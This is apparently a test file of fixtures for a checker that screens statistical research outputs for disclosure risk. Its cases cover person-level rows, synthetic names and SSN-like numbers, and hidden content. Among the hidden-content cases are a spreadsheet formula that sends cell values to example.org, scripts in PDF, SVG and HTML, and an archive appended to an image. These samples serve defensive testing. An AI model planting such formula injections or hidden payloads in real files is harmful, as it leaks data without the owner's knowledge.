"""What is in a file beside its tables: persons, identities, hidden parts, kinds that are refused, what cannot be read."""

from __future__ import annotations

# fmt: off  (a case a line)
import base64
import gzip
import io
import json
import pickle
import sqlite3
import struct
import tempfile
import zipfile
import zlib
from pathlib import Path
from typing import Any

import matplotlib
import numpy as np
import openpyxl
import pandas as pd
import pypdf
from openpyxl.comments import Comment
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.corpus.third.counts import crosstab
from tests.corpus.third.request import (
    ask,
    bad,
    beside,
    csv,
    fill,
    good,
    html,
    markdown,
    notebook,
    printed,
    records,
    side,
    text,
    workbook,
    xlsx,
)

matplotlib.use("Agg")
from matplotlib import pyplot as plt

UNIT = "paragraph 'unit records'"
WHO = "paragraph 'direct identifiers'"
HIDE = "paragraph 'hidden content'"
KIND = "paragraph 'file kinds'"
FREQ = {
    "rows": ["district"],
    "kind": "frequency",
    "counts": "cells",
    "population": "2019 graduates",
    "totals": {"rows": "Total", "columns": "Total"},
}
rng = np.random.default_rng(41)
SAFE = crosstab(64)


def persons(n: int) -> list[list[Any]]:
    return [
        [
            f"S{rng.integers(10**7, 10**8)}",
            str(rng.choice(["F", "M"])),
            int(rng.integers(1996, 2003)),
            f"95{rng.integers(100, 999)}",
            round(float(rng.normal(3, 0.4)), 2),
            int(rng.integers(8000, 91000)),
        ]
        for _ in range(n)
    ]


HEAD = ["student_id", "sex", "birth_year", "zip", "gpa", "wage"]
bad("persons", "unit_record", f"rows are persons; {UNIT}", csv([HEAD, *persons(60)]))
bad(
    "persons, sidecar",
    "unit_record",
    f"rows are persons, whatever the sidecar calls them; {UNIT}",
    side(csv([HEAD, *persons(60)]), rows=["student_id"], kind="summary", population="graduates"),
)
bad("persons in a workbook", "unit_record", f"rows are persons; {UNIT}", xlsx([HEAD, *persons(45)]))
bad("persons as records", "unit_record", f"rows are persons; {UNIT}", records([HEAD, *persons(40)], "sample"))
bad("head print", "unit_record", f"a head() print; {UNIT}", text(printed([HEAD, *persons(5)])))
bad(
    "head in a notebook",
    "unit_record",
    f"a head() print; {UNIT}",
    notebook([printed([HEAD, *persons(5)])], "df.head()"),
)
bad(
    "head in a log",
    "unit_record",
    f"a head() print amid log lines; {UNIT}",
    text("INFO 12:01 loaded 41233 rows\n" + printed([HEAD, *persons(5)]) + "INFO 12:02 done\n", "run.log"),
)
bad(
    "pseudonymous wages",
    "unit_record",
    f"pseudonymous ids with wages; {UNIT}",
    csv(
        [
            ["person_key", "quarter", "wages"],
            *([f"{rng.integers(16**7, 16**8):x}", "2019Q1", int(rng.integers(900, 31000))] for _ in range(50)),
        ]
    ),
)
bad(
    "persons without an id",
    "unit_record",
    f"rows are persons though no id is shown; {UNIT}",
    csv(
        [
            ["age", "sex", "race", "zip", "gpa", "wage"],
            *(
                [
                    int(rng.integers(18, 29)),
                    p[1],
                    str(rng.choice(["Asian", "Black", "White", "Hispanic"])),
                    p[3],
                    p[4],
                    p[5],
                ]
                for p in persons(60)
            ),
        ]
    ),
)
bad("persons, markdown", "unit_record", f"rows are persons; {UNIT}", markdown([HEAD, *persons(12)]))


def figure(draw: Any, kind: str = "png") -> bytes:
    fig, ax = plt.subplots(figsize=(4, 3))
    draw(ax)
    out = io.BytesIO()
    fig.savefig(out, format=kind)
    plt.close(fig)
    return out.getvalue()


def bars(ax: Any) -> None:
    ax.bar(["Alder", "Birch", "Cedar"], [433, 344, 667])
    ax.set_ylabel("Students")


bad(
    "scatter of persons",
    "unit_record",
    f"a scatter plot of 300 persons; {UNIT}",
    {
        "scatter.svg": figure(
            lambda ax: (
                ax.scatter(rng.normal(3, 0.4, 300), rng.normal(40000, 9000, 300)),
                ax.set_xlabel("gpa"),
                ax.set_ylabel("wage"),
            ),
            "svg",
        )
    },
)
good(
    "schools",
    "unit_record",
    "rows are schools",
    csv(
        [
            ["school", "county", "enrollment", "pct_frpm"],
            *(
                [f"{n} High", c, int(rng.integers(400, 3100)), round(float(rng.uniform(20, 80)), 1)]
                for n, c in zip(
                    (
                        "Alder",
                        "Birch",
                        "Cedar",
                        "Dogwood",
                        "Elm",
                        "Fir",
                        "Ginkgo",
                        "Holly",
                        "Ivy",
                        "Juniper",
                        "Kauri",
                        "Larch",
                    ),
                    ("Butte", "Kern", "Inyo") * 4,
                    strict=True,
                )
            ),
        ]
    ),
)
good(
    "codebook",
    "unit_record",
    "a list of variables",
    csv(
        [
            ["variable", "type", "description"],
            ["student_id", "text", "pseudonymous key"],
            ["gpa", "number", "grade points"],
            ["wage", "number", "quarterly wage"],
        ]
    ),
)
good(
    "counties by year, sidecar",
    "unit_record",
    "a panel of counties",
    side(
        csv(
            [
                ["county", "year", "students"],
                *([c, y, int(rng.integers(900, 41000))] for c in ("Butte", "Kern", "Inyo") for y in range(2012, 2020)),
            ]
        ),
        rows=["county", "year"],
        kind="frequency",
        counts="students",
        population="students",
    ),
)
good(
    "grouped head",
    "unit_record",
    "head() of a grouped table",
    notebook(
        [
            printed(
                [["district", "students", "mean_gpa"], ["Alder", 433, 3.1], ["Birch", 344, 2.94], ["Cedar", 667, 3.02]]
            )
        ],
        "by_district.head()",
    ),
)
good(
    "parameters",
    "unit_record",
    "a run's settings",
    text(json.dumps({"model": "ols", "seed": 41, "years": [2015, 2016], "weights": None}), "config.json"),
)
good("crosstab again, sidecar", "unit_record", "a table of large counts", side(csv(SAFE), **FREQ))

# identifiers
NAMES = [
    ["Maria", "Lopez", "1999-04-12"],
    ["John", "Smith", "2000-11-30"],
    ["Wei", "Chen", "1998-07-01"],
    ["Aisha", "Khan", "2001-02-19"],
]
bad(
    "names and births",
    "identifier unit_record",
    f"name and date of birth in a row; {WHO}",
    csv([["first_name", "last_name", "date_of_birth"], *NAMES]),
)
bad(
    "names and births, sidecar",
    "identifier unit_record",
    f"name and date of birth in a row; {WHO}",
    side(
        csv([["first_name", "last_name", "date_of_birth", "n"], *([*r, 120] for r in NAMES)]),
        rows=["last_name"],
        kind="frequency",
        counts="n",
        population="students",
    ),
)
bad(
    "ssn column",
    "identifier",
    f"a column of valid SSNs; {WHO}",
    csv(
        [
            ["ssn", "wages"],
            ["536-22-1234", 41200],
            ["219-09-8876", 38800],
            ["457-55-5462", 29100],
            ["612-31-4410", 50100],
        ]
    ),
)
bad(
    "ssn without dashes",
    "identifier",
    f"a column of valid SSNs; {WHO}",
    xlsx([["ssn", "wages"], ["536221234", 41200], ["219098876", 38800], ["457555462", 29100], ["612314410", 50100]]),
)
bad(
    "ssn in a log",
    "identifier",
    f"SSNs with names in log lines; {WHO}",
    text(
        "WARN no match for John Smith ssn=536-22-1234 dob=1999-04-12\nWARN no match for Maria Lopez ssn=219-09-8876 dob=2000-11-30\n",
        "match.log",
    ),
)
bad(
    "name and mail",
    "identifier",
    f"name and e-mail in a row; {WHO}",
    records(
        [
            ["name", "email"],
            ["Maria Lopez", "maria.lopez@example.org"],
            ["John Smith", "jsmith42@example.org"],
            ["Wei Chen", "wei.chen@example.org"],
        ]
    ),
)
bad(
    "zip+4 and birth",
    "identifier unit_record",
    f"ZIP+4 and date of birth in a row; {WHO}",
    markdown(
        [
            ["zip", "dob", "sex", "gpa"],
            ["95814-2201", "1999-04-12", "F", "3.1"],
            ["95616-4412", "2000-11-30", "M", "2.9"],
            ["94704-1102", "1998-07-01", "F", "3.4"],
        ]
    ),
)
bad(
    "in a notebook",
    "identifier",
    f"name, birth and SSN in a printed line; {WHO}",
    notebook(["'John Smith, born 1999-04-12, SSN 536-22-1234'"], "row_to_text(df.iloc[0])"),
)
good(
    "ten digits, sidecar",
    "identifier",
    "ten-digit totals are wages",
    side(
        csv(
            [
                ["county", "workers", "total_wages"],
                ["Alameda", 412000, 2140000000],
                ["Butte", 61200, 2510000120],
                ["Kern", 88120, 4155550132],
            ]
        ),
        rows=["county"],
        kind="magnitude",
        counts="workers",
        population="workers",
    ),
)
good(
    "nine digits",
    "identifier",
    "nine-digit totals are wages",
    csv(
        [
            ["county", "workers", "total_wages"],
            ["Alameda", 4120, 214000000],
            ["Butte", 6120, 251000120],
            ["Kern", 8812, 415555013],
        ]
    ),
)
good(
    "school codes",
    "identifier",
    "fourteen-digit codes of schools",
    csv(
        [
            ["cds_code", "school", "enrollment"],
            ["01611190130229", "Alameda High", 1761],
            ["01611270130450", "Albany High", 1204],
            ["01611430131177", "Berkeley High", 3102],
        ]
    ),
)
good(
    "schools named for persons, sidecar",
    "identifier",
    "schools named after persons",
    side(
        csv(
            [["school", "n"], ["Cesar Chavez High", 1204], ["Martin Luther King High", 1761], ["John Muir Middle", 812]]
        ),
        rows=["school"],
        kind="frequency",
        counts="n",
        population="students",
    ),
)
good(
    "county names",
    "identifier",
    "counties and the day of the report",
    markdown(
        [["County", "Students"], ["San Benito", "3,120"], ["Santa Clara", "81,233"], ["Del Norte", "1,120"]],
        before="Report of 2023-05-11",
    ),
)

# hidden content


def book(change: Any) -> dict[str, bytes]:
    made = openpyxl.Workbook()
    fill(made.active, SAFE, "Table 1")
    change(made)
    return {"t1.xlsx": workbook(made)}


def hidden_sheet(state: str) -> Any:
    def change(made: openpyxl.Workbook) -> None:
        fill(made.create_sheet(), [HEAD, *persons(20)], "raw").sheet_state = state

    return change


def hidden_row(made: openpyxl.Workbook) -> None:
    made.active.row_dimensions[3].hidden = True


def hidden_column(made: openpyxl.Workbook) -> None:
    for i, v in enumerate(["ids", *(f"S{rng.integers(10**7, 10**8)}" for _ in range(5))], 1):
        made.active.cell(i, 8, v)
    made.active.column_dimensions["H"].hidden = True


def comment(made: openpyxl.Workbook) -> None:
    made.active["B3"].comment = Comment("students S40112233, S40112891 and S40119004", "ben")


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG = figure(bars)
RAW = "\n".join(",".join(map(str, r)) for r in [HEAD, *persons(20)]).encode()
SVG = figure(bars, "svg")
PDF = figure(bars, "pdf")


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("raw.csv", RAW)
    return out.getvalue()


def jpeg(**more: Any) -> bytes:
    out = io.BytesIO()
    Image.open(io.BytesIO(PNG)).convert("RGB").save(out, "JPEG", quality=85, **more)
    return out.getvalue()


def gps() -> bytes:
    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "N", 2: (38.0, 34.0, 53.1), 3: "W", 4: (121.0, 29.0, 40.2)})
    exif[0x010E] = "photo at the home of S40112233"
    return jpeg(exif=exif.tobytes())


def pdf(change: Any) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(PDF))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def script(writer: pypdf.PdfWriter) -> None:
    action = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("var d=['S40112233',2.1];")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject(k): v for k, v in action.items()})


def invisible(ax: Any) -> None:
    bars(ax)
    ax.text(0, 100, "S40112233 gpa 2.10 wage 31204", color="white", fontsize=1)


bad("hidden sheet", "hidden_content", f"a hidden sheet of persons; {HIDE}", book(hidden_sheet("hidden")))
bad(
    "very hidden sheet, sidecar",
    "hidden_content",
    f"a very hidden sheet of persons; {HIDE}",
    side(book(hidden_sheet("veryHidden")), **FREQ),
)
bad("hidden row", "hidden_content", f"a hidden row; {HIDE}", book(hidden_row))
bad("hidden column, sidecar", "hidden_content", f"a hidden column of ids; {HIDE}", side(book(hidden_column), **FREQ))
bad("comment with ids", "hidden_content", f"ids in a comment; {HIDE}", book(comment))
bad(
    "svg script",
    "hidden_content",
    f"a script with data; {HIDE}",
    {"bars.svg": SVG.replace(b"</svg>", b"<script>var d=[['S40112233',2.1],['S40112891',3.3]];</script></svg>")},
)
bad(
    "svg data uri",
    "hidden_content",
    f"a data URI; {HIDE}",
    {
        "bars.svg": SVG.replace(
            b"</svg>", b'<a href="data:text/csv;base64,' + base64.b64encode(RAW) + b'"><text>data</text></a></svg>'
        )
    },
)
bad(
    "svg comment",
    "hidden_content",
    f"rows of persons in an XML comment; {HIDE}",
    {"bars.svg": SVG.replace(b"</svg>", b"<!-- " + RAW + b" --></svg>")},
)
bad(
    "html script",
    "hidden_content",
    f"a script with data, as interactive charts carry them; {HIDE}",
    html(SAFE, extra="<script>const rows=[{id:'S40112233',gpa:2.1},{id:'S40112891',gpa:3.3}];</script>"),
)
bad(
    "html comment",
    "hidden_content",
    f"ids in a comment; {HIDE}",
    html(SAFE, extra="<!-- outliers: S40112233 gpa 2.10, S40112891 gpa 3.31, S40119004 gpa 1.92 -->"),
)
bad(
    "html not displayed",
    "hidden_content",
    f"a table that is not displayed; {HIDE}",
    html(
        SAFE,
        extra="<div style='display:none'><table><tr><th>student_id</th><th>gpa</th></tr><tr><td>S40112233</td><td>2.1</td></tr><tr><td>S40112891</td><td>3.3</td></tr></table></div>",
    ),
)
bad(
    "png text",
    "hidden_content",
    f"a text chunk with data; {HIDE}",
    {"bars.png": PNG[:33] + chunk(b"tEXt", b"Comment\0" + RAW) + PNG[33:]},
)
bad(
    "png compressed text",
    "hidden_content",
    f"a compressed text chunk with data; {HIDE}",
    {"bars.png": PNG[:33] + chunk(b"zTXt", b"notes\0\0" + zlib.compress(RAW)) + PNG[33:]},
)
bad("zip in png", "hidden_content", f"a polyglot: an archive behind an image; {HIDE}", {"bars.png": PNG + zipped()})
bad("bytes behind png", "hidden_content", f"trailing bytes with data; {HIDE}", {"bars.png": PNG + RAW})
bad("gps", "hidden_content", f"a photo's place and a person's id in EXIF; {HIDE}", {"photo.jpg": gps()})
bad("jpeg comment", "hidden_content", f"data in a JPEG comment; {HIDE}", {"bars.jpg": jpeg(comment=RAW)})
bad(
    "notebook attachment",
    "hidden_content",
    f"an attachment; {HIDE}",
    notebook(
        [printed(SAFE, index=False)],
        cells=[
            {
                "cell_type": "markdown",
                "metadata": {},
                "source": ["![d](attachment:d.csv)"],
                "attachments": {"d.csv": {"text/csv": base64.b64encode(RAW).decode()}},
            }
        ],
    ),
)
bad(
    "widget state",
    "hidden_content",
    f"widget state with persons; {HIDE}",
    notebook(
        [printed(SAFE, index=False)],
        widgets={
            "application/vnd.jupyter.widget-state+json": {
                "version_major": 2,
                "version_minor": 0,
                "state": {"a1": {"model_name": "DataFrameModel", "state": {"rows": persons(5)}}},
            }
        },
    ),
)
bad(
    "pdf attachment",
    "hidden_content",
    f"an attachment; {HIDE}",
    {"bars.pdf": pdf(lambda w: w.add_attachment("raw.csv", RAW))},
)
bad("pdf script", "hidden_content", f"a script; {HIDE}", {"bars.pdf": pdf(script)})
bad("pdf invisible text", "hidden_content", f"white text of one point; {HIDE}", {"bars.pdf": figure(invisible, "pdf")})
bad(
    "formula in csv",
    "hidden_content",
    f"a formula in a text cell; {HIDE}",
    csv([["district", "n"], ["Alder", 212], ['=HYPERLINK("http://example.org/?x="&B2)', 188], ["Cedar", 88]]),
)
good("plain png", "hidden_content", f"an image with its Software chunk; {HIDE}", {"bars.png": PNG})
good("plain svg", "hidden_content", "a drawing as the plotting library writes it", {"bars.svg": SVG})
good("plain pdf", "hidden_content", "a drawing as the plotting library writes it", {"bars.pdf": PDF})
good("plain jpeg", "hidden_content", "an image with its resolution", {"bars.jpg": jpeg(dpi=(150, 150))})
good(
    "plain workbook, sidecar",
    "hidden_content",
    f"docProps are normal; {HIDE}",
    side(book(lambda made: setattr(made.properties, "creator", "ben")), **FREQ),
)
good("plain notebook", "hidden_content", f"a kernelspec is normal; {HIDE}", notebook([printed(SAFE, index=False)]))
good(
    "styled page",
    "hidden_content",
    "a page with a style sheet",
    html(SAFE, extra="<style>td{text-align:right}</style><p>Source: state data.</p>"),
)
good(
    "widths and panes",
    "hidden_content",
    "widths, bold heads and a frozen pane",
    book(
        lambda made: (
            setattr(made.active, "freeze_panes", "B2"),
            setattr(made.active.column_dimensions["A"], "width", 22),
        )
    ),
)

# file kinds
FRAME = pd.DataFrame(persons(20), columns=HEAD)


def parquet() -> bytes:
    out = io.BytesIO()
    FRAME.to_parquet(out)
    return out.getvalue()


def sqlite() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        with sqlite3.connect(Path(folder) / "a.db") as base:
            FRAME.to_sql("t", base)
        base.close()
        return (Path(folder) / "a.db").read_bytes()


def numpy() -> bytes:
    out = io.BytesIO()
    np.save(out, rng.normal(0, 1, (50, 4)))
    return out.getvalue()


def stata() -> bytes:
    out = io.BytesIO()
    FRAME.to_stata(out)
    return out.getvalue()


SAFE_TABLE = csv(SAFE, "summary")
bad(
    "pickle",
    "file_kind",
    f"a serialised model; {KIND}",
    {"model.pkl": pickle.dumps({"coef": [1.0, 2.0], "classes": ["a", "b"]})},
)
bad(
    "pickle beside a table, sidecar",
    "file_kind",
    f"a serialised model beside a safe table; {KIND}",
    beside(side(SAFE_TABLE, **FREQ), {"model.joblib": pickle.dumps([1, 2, 3])}),
)
bad("parquet", "file_kind", f"Parquet; {KIND}", {"t1.parquet": parquet()})
bad("archive", "file_kind", f"an archive; {KIND}", {"all.zip": zipped()})
bad("gzip", "file_kind", f"a compressed table; {KIND}", {"t1.csv.gz": gzip.compress(RAW)})
bad("database", "file_kind", f"a database; {KIND}", {"t.sqlite": sqlite()})
bad("array", "file_kind", f"a serialised array; {KIND}", {"x.npy": numpy()})
bad("stata", "file_kind", f"a data file of a statistics package; {KIND}", {"t.dta": stata()})
bad(
    "pickle named csv",
    "file_kind unreadable",
    f"a pickle under the name of a table; {KIND}",
    {"t1.csv": pickle.dumps(FRAME)},
)
bad("program", "file_kind", f"a program; {KIND}", {"tool": b"\x7fELF\x02\x01\x01" + bytes(200)})
good(
    "table kinds, sidecar",
    "file_kind",
    f"kinds on the allow-list; {KIND}",
    beside(side(SAFE_TABLE, **FREQ), csv(crosstab(81), "more", sep="\t")),
)
good(
    "log",
    "file_kind",
    f"a run's log; {KIND}",
    text("INFO 12:01 started\nINFO 12:02 fitted 3 models\nINFO 12:02 done\n", "run.log"),
)
good(
    "readme",
    "file_kind",
    f"a text; {KIND}",
    text(
        "# Tables\n\nTable 1 shows the destination of graduates by district. Cells below 11 are hidden.\n", "README.md"
    ),
)
good("image and table", "file_kind", f"kinds on the allow-list; {KIND}", beside(SAFE_TABLE, {"bars.png": PNG}))
good("json", "file_kind", f"kinds on the allow-list; {KIND}", records(SAFE))

# unreadable


def locked() -> bytes:
    return pdf(lambda w: w.encrypt("secret", algorithm="RC4-128"))


bad("locked pdf", "unreadable", f"an encrypted PDF; {KIND}", {"bars.pdf": locked()})
bad("cut png", "unreadable hidden_content", f"a truncated image; {KIND}", {"bars.png": PNG[: len(PNG) // 2]})
bad("broken workbook", "unreadable", f"a broken workbook; {KIND}", {"t1.xlsx": xlsx(SAFE)["t1.xlsx"][:900]})
bad(
    "locked workbook",
    "unreadable file_kind",
    f"an encrypted workbook (OLE container); {KIND}",
    {"t1.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + rng.bytes(4000)},
)
bad("broken json", "unreadable", f"JSON that ends amid a record; {KIND}", {"t1.json": records(SAFE)["t1.json"][:-40]})
bad("noise", "unreadable file_kind", f"random bytes under the name of a table; {KIND}", {"t1.csv": rng.bytes(3000)})
bad("cut pdf", "unreadable", f"a truncated PDF; {KIND}", {"bars.pdf": PDF[: len(PDF) // 3]})
bad(
    "broken notebook",
    "unreadable",
    f"a notebook cut short; {KIND}",
    {"a.ipynb": notebook([printed(SAFE, index=False)])["analysis.ipynb"][:-60]},
)
bad(
    "broken workbook, sidecar",
    "unreadable",
    f"a broken workbook; {KIND}",
    side({"t1.xlsx": b"PK\x03\x04" + rng.bytes(900)}, **FREQ),
)
good(
    "latin",
    "unreadable",
    "Latin-1 text",
    csv([["district", "n"], ["Cañada", 412], ["La Peña", 344]], encoding="latin-1"),
)
good("utf-16, sidecar", "unreadable", "UTF-16 with a byte-order mark", side(csv(SAFE, encoding="utf-16"), **FREQ))
good(
    "semicolons, sidecar",
    "unreadable",
    "another dialect",
    side(
        csv([["district", "n", "mean_gpa"], ["Alder", 412, "3,12"], ["Birch", 344, "2,98"]], sep=";"),
        rows=["district"],
        kind="summary",
        counts="n",
        population="graduates",
    ),
)
good(
    "title and note",
    "unreadable",
    "a title above and a note under the table",
    text(
        "Table 1. Graduates by district\n\ndistrict,n\nAlder,412\nBirch,344\nCedar,667\n\nSource: state data\n",
        "t1.csv",
    ),
)
good(
    "json with NaN",
    "unreadable",
    "NaN as Python writes it",
    text(
        '[{"district": "Alder", "n": 412, "mean_gpa": 3.1}, {"district": "Birch", "n": 344, "mean_gpa": NaN}]',
        "t1.json",
    ),
)
ask("empty", "unreadable", "an empty file", {"t1.csv": b""})
